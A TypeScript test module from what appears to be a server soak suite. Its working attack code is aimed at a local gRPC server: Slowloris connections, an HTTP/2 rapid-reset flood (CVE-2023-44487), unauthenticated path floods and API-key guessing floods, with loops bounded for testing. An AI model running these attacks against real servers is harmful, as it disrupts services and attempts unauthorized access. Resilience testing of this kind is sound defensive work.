// The four attacks of the soak suite, each from 127.0.0.2 (another peer address than the legitimate client's
// 127.0.0.1, so a per-peer defence tells them apart). Every loop is bounded by a count or a deadline.
import http2 from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** The address attackers connect from. */
const ATTACKER = '127.0.0.2';

/** The HTTP/2 client connection preface (RFC 9113 §3.4). */
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

const hostAndPort = (address: string) => {
  const index = address.lastIndexOf(':');
  return { host: address.slice(0, index), port: Number(address.slice(index + 1)) };
};

/** A gRPC message frame (uncompressed) of a JSON body, as the echo service's codec reads it. */
function grpcFrame(message: object): Buffer {
  const body = Buffer.from(JSON.stringify(message));
  const frame = Buffer.alloc(5 + body.length);
  frame.writeUInt32BE(body.length, 1);
  body.copy(frame, 5);
  return frame;
}

/** An HTTP/2 connection from the attacker's address. */
function attackerSession(address: string): http2.ClientHttp2Session {
  const { host, port } = hostAndPort(address);
  const session = http2.connect(`http://${address}`, {
    createConnection: () => connect({ host, port, localAddress: ATTACKER }),
  });
  session.on('error', () => {});
  return session;
}

/** One unary call over `session`; resolves with its grpc-status, or -1 when the stream failed without one. */
function rawUnary(session: http2.ClientHttp2Session, path: string, headers: http2.OutgoingHttpHeaders = {}): Promise<number> {
  return new Promise((resolve) => {
    let status = -1;
    const stream = session.request({
      ':method': 'POST',
      ':path': path,
      'content-type': 'application/grpc',
      te: 'trailers',
      ...headers,
    });
    stream.on('response', (head) => {
      if (head['grpc-status'] !== undefined) status = Number(head['grpc-status']);
    });
    stream.on('trailers', (trailers: http2.IncomingHttpHeaders) => {
      if (trailers['grpc-status'] !== undefined) status = Number(trailers['grpc-status']);
    });
    stream.on('error', () => {});
    stream.on('close', () => resolve(status));
    stream.resume();
    stream.end(grpcFrame({ text: 'x' }));
  });
}

/** Runs `work` over `items` with at most `concurrency` at a time. */
async function pool<T>(items: readonly T[], concurrency: number, work: (item: T) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(concurrency, items.length) }, async () => {
      while (next < items.length) await work(items[next++] as T);
    }),
  );
}

/** Slowloris sockets: connected, then silent or sending only the preface. */
export interface SlowSockets {
  readonly opened: number;
  /** How many the server closed so far. */
  closedByServer(): number;
  /** Closes every one still open. */
  destroy(): void;
}

/**
 * Opens `count` TCP connections that send nothing and `count` that send only the HTTP/2 preface (no SETTINGS), 100 at
 * a time; a connection the server refuses or closes counts as closed by the server.
 */
export async function openSlowSockets(address: string, count: number): Promise<SlowSockets> {
  const { host, port } = hostAndPort(address);
  const sockets: Socket[] = [];
  let closed = 0;
  let destroying = false;
  const kinds = Array.from({ length: 2 * count }, (_, index) => index % 2 === 0);
  await pool(kinds, 100, (preface) => {
    return new Promise<void>((resolve) => {
      const socket = connect({ host, port, localAddress: ATTACKER });
      socket.on('error', () => {});
      socket.on('data', () => {}); // the server's SETTINGS (or GOAWAY): read, never answered
      socket.once('close', () => {
        if (!destroying) closed++;
        resolve();
      });
      socket.once('connect', () => {
        if (preface) socket.write(PREFACE);
        resolve();
      });
      sockets.push(socket);
    });
  });
  return {
    opened: sockets.length,
    closedByServer: () => closed,
    destroy() {
      destroying = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** What a rapid-reset attack did. */
export interface RapidResetFigures {
  /** Streams opened and reset at once (RST_STREAM CANCEL). */
  readonly streams: number;
  /** GOAWAY frames received. */
  readonly goaways: number;
  /** Connections used (a new one replaces each that the server closed). */
  readonly connections: number;
}

/**
 * Rapid reset (CVE-2023-44487) for `durationMs`: on each of `connections` connections, streams opened and reset at
 * once (`close(NGHTTP2_CANCEL)`), 100 per turn of the event loop; a connection the server sends GOAWAY or closes is
 * replaced by a new one.
 */
export async function rapidReset(address: string, connections: number, durationMs: number): Promise<RapidResetFigures> {
  const deadline = performance.now() + durationMs;
  let streams = 0;
  let goaways = 0;
  let used = 0;
  const attack = async () => {
    while (performance.now() < deadline) {
      used++;
      const session = attackerSession(address);
      let open = true;
      session.on('goaway', () => {
        goaways++;
        open = false;
      });
      session.on('close', () => (open = false));
      await new Promise<void>((resolve) => {
        session.once('connect', () => resolve());
        session.once('close', () => resolve());
      });
      while (open && !session.destroyed && performance.now() < deadline) {
        for (let index = 0; index < 100 && open; index++) {
          try {
            const stream = session.request({
              ':method': 'POST',
              ':path': '/test.v1.EchoService/Echo',
              'content-type': 'application/grpc',
              te: 'trailers',
            });
            stream.on('error', () => {});
            stream.close(http2.constants.NGHTTP2_CANCEL);
            streams++;
          } catch {
            open = false; // the session is closing (or out of stream ids)
          }
        }
        await new Promise((resolve) => setImmediate(resolve));
      }
      session.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, attack));
  return { streams, goaways, connections: used };
}

/** How many calls got each grpc-status (-1: none, the stream failed). */
export type StatusCounts = Record<string, number>;

/**
 * Calls `paths` (each once) over one connection, `concurrency` at a time, without credentials.
 * @returns the statuses the calls got.
 */
export async function floodPaths(address: string, paths: readonly string[], concurrency = 50): Promise<StatusCounts> {
  return flood(address, paths, concurrency, (session, path) => rawUnary(session, path));
}

/**
 * Calls Echo once with each of `keys` (in `x-api-key`) over one connection, `concurrency` at a time.
 * @returns the statuses the calls got.
 */
export async function floodKeys(address: string, keys: readonly string[], concurrency = 50): Promise<StatusCounts> {
  return flood(address, keys, concurrency, (session, key) =>
    rawUnary(session, '/test.v1.EchoService/Echo', { 'x-api-key': key }),
  );
}

async function flood<T>(
  address: string,
  items: readonly T[],
  concurrency: number,
  call: (session: http2.ClientHttp2Session, item: T) => Promise<number>,
): Promise<StatusCounts> {
  const statuses: StatusCounts = {};
  let session = attackerSession(address);
  await pool(items, concurrency, async (item) => {
    // A connection the server closed (GOAWAY) is replaced: the attacker just reconnects.
    if (session.closed || session.destroyed) session = attackerSession(address);
    const status = await call(session, item);
    statuses[status] = (statuses[status] ?? 0) + 1;
  });
  session.close();
  await sleep(0);
  return statuses;
}
